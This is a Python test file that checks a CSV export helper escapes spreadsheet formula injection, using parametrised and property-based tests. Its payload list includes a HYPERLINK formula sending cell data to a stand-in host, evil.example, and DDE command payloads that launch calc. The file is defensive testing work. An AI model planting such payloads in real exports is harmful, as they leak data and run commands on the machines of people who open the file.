"""X2: no cell of an export is a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kitchenasty.kit.http.csv import begin_csv, csv_cell, csv_rows

DANGER = "=+-@\t\r＝＋－＠"
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "'=1+1",
    '"=1+1',
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "%0A=1+1",
    "|calc",
]


def cells_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_shown_and_not_computed(formula: str) -> None:
    assert csv_cell(formula).startswith("'")


def test_our_own_numbers_stay_numbers() -> None:
    assert [csv_cell(value) for value in (-3, Decimal("-12.90"), None)] == ["-3", "-12.90", ""]
    noon = datetime(2030, 5, 17, 12, tzinfo=UTC)
    assert csv_cell(noon) == "2030-05-17T12:00:00.000Z"


def test_plain_names_stay_as_they_are() -> None:
    names = ["Ada, Countess", 'the "Duke"', "O'Hara", "Zoë", "李 小龙", "3 soups"]
    assert cells_of(begin_csv(names) + csv_rows([]))[0] == names


@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_any_text_stays_in_its_cell_and_starts_no_formula(row: list[str]) -> None:
    header = ["x"] * len(row)
    found = cells_of(begin_csv(header) + csv_rows([row]))
    assert len(found) == 2
    assert len(found[1]) == len(row)
    for cell in found[1]:
        assert cell.isprintable() or "\u200c" in cell or "\u200d" in cell
        assert cell == "" or cell[0] not in DANGER


@given(st.sampled_from(DANGER), st.text(max_size=30))
def test_whatever_follows_the_sign(sign: str, rest: str) -> None:
    cell = csv_cell(f"{sign}{rest}")
    assert cell == "" or cell[0] not in DANGER
